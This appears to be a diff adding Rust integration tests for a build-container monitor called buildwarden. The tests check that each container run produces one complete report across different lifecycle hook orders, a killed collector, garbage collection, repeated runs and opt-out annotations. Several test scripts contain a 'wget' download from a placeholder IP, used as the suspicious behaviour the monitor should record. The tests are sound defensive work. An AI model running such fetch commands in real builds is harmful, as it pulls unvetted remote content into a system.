@@ -1,0 +1,150 @@
+//! A container's life: hooks twice, late or never, a collector that dies, a
+//! container that comes back.
+
+use crate::harness::{Container, Dir, Done, run, run_with_input, until};
+use nix::sys::signal::{Signal, kill};
+use serde_json::json;
+
+/// An entrypoint that waits in the middle, and then does what is looked for.
+const BUILD: &str = "echo >/sync/ready; read _ </sync/go; wget http://198.51.100.13/x; :";
+
+/// Calls a hook as a runtime does at a container's end.
+fn poststop(dir: &Dir, id: &str) -> Done {
+    let state = json!({
+        "ociVersion": "1.0.2",
+        "id": id,
+        "status": "stopped",
+        "bundle": dir.path("bundles").join(id),
+    });
+    run_with_input(&mut dir.buildwarden(["hook", "poststop"]), state.to_string().as_bytes())
+}
+
+/// The report of a run of [`BUILD`] must be whole, whatever happened.
+#[track_caller]
+fn expect_complete(dir: &Dir, name: &str) {
+    let report = dir.report(name);
+    assert_eq!(report.findings.len(), 1, "{name}: {report:?}");
+    assert!(report.findings[0].outcome.is_some(), "{name}: {report:?}");
+    assert_eq!(report.completeness.reasons, [""; 0], "{name}");
+    assert_eq!(report.completeness.execs, report.completeness.last_sequence, "{name}");
+    let log = std::fs::read_to_string(
+        dir.state().join("containers").join(name).join("annotations.jsonl"),
+    )
+    .unwrap();
+    for key in ["dev.buildwarden.attached", "dev.buildwarden.finding.1", "dev.buildwarden.finished"]
+    {
+        let quoted = format!("\"{key}\"");
+        assert_eq!(log.matches(&quoted).count(), 1, "{name}: {key} in {log}");
+    }
+    dir.expect_nothing_live();
+}
+
+#[test]
+fn root_one_report_whatever_hooks_run() {
+    let cases: [&[&str]; 4] = [
+        &["createRuntime", "poststop"],
+        &["prestart", "poststop"],
+        &["prestart", "createRuntime", "poststop"],
+        &["createRuntime"],
+    ];
+    for stages in cases {
+        let dir = Dir::new();
+        let container = Container::new(&dir, "hooks").script(BUILD).hooks(stages);
+        let mut running = container.start();
+        running.ready();
+        running.go();
+        running.finish().expect_code(0);
+        expect_complete(&dir, "hooks");
+        assert_eq!(dir.runs(), ["hooks"], "{stages:?}");
+    }
+}
+
+#[test]
+fn root_findings_are_annotated_while_the_container_lives() {
+    let dir = Dir::new();
+    let container = Container::new(&dir, "live")
+        .script("wget http://198.51.100.13/x; echo >/sync/ready; read _ </sync/go");
+    let mut running = container.start();
+    running.ready();
+    let log = dir.state().join("containers/live/annotations.jsonl");
+    until("the finding's annotation", || {
+        std::fs::read_to_string(&log).ok()?.contains("dev.buildwarden.finding.1").then_some(())
+    });
+    assert!(!dir.state().join("containers/live/report.json").exists());
+    running.go();
+    running.finish().expect_code(0);
+    expect_complete(&dir, "live");
+}
+
+/// What finishes a container whose collector died.
+enum Finisher {
+    Poststop,
+    Gc,
+}
+
+#[test]
+fn root_a_killed_collector_costs_nothing_but_time() {
+    for (finisher, stages) in [
+        (Finisher::Poststop, &["createRuntime", "poststop"][..]),
+        (Finisher::Gc, &["createRuntime"]),
+    ] {
+        let dir = Dir::new();
+        let container = Container::new(&dir, "orphan").script(BUILD).hooks(stages);
+        let mut running = container.start();
+        running.ready();
+        let collector = dir.collector("orphan");
+        kill(collector, Signal::SIGKILL).unwrap();
+        until("the collector's end", || kill(collector, None).is_err().then_some(()));
+        running.go();
+        running.finish().expect_code(0);
+        if let Finisher::Gc = finisher {
+            assert!(!dir.state().join("containers/orphan/report.json").exists());
+            run(&mut dir.buildwarden(["gc"])).expect_code(0);
+        }
+        expect_complete(&dir, "orphan");
+    }
+}
+
+#[test]
+fn root_poststop_again_changes_nothing() {
+    let dir = Dir::new();
+    Container::new(&dir, "again").script("wget http://198.51.100.13/x; :").run().expect_code(0);
+    expect_complete(&dir, "again");
+    let path = dir.state().join("containers/again/report.json");
+    let before = std::fs::read(&path).unwrap();
+    poststop(&dir, "again").expect_code(0);
+    assert_eq!(std::fs::read(&path).unwrap(), before);
+    assert_eq!(dir.runs(), ["again"]);
+}
+
+#[test]
+fn root_poststop_of_a_container_that_never_began_is_normal() {
+    let dir = Dir::new();
+    poststop(&dir, "never").expect_code(0);
+    assert_eq!(dir.runs(), [""; 0]);
+    assert_eq!(dir.live(), [""; 0]);
+}
+
+#[test]
+fn root_the_same_id_again_is_a_new_run() {
+    let dir = Dir::new();
+    let container = Container::new(&dir, "twice").script("wget http://198.51.100.13/x; :");
+    container.run().expect_code(0);
+    expect_complete(&dir, "twice");
+    container.run().expect_code(0);
+    expect_complete(&dir, "twice.2");
+    assert_eq!(dir.runs(), ["twice", "twice.2"]);
+    assert_eq!(dir.report("twice.2").container.run, 2);
+}
+
+#[test]
+fn root_an_annotated_container_is_left_alone() {
+    let dir = Dir::new();
+    let container = Container::new(&dir, "unwanted").annotation("dev.buildwarden.trace", "false");
+    container.run().expect_code(0);
+    assert_eq!(dir.runs(), [""; 0]);
+
+    let container = Container::new(&dir, "named").annotation("dev.buildwarden.job", "build-7");
+    container.run().expect_code(0);
+    assert_eq!(dir.report("named").job.unwrap().id, "build-7");
+}
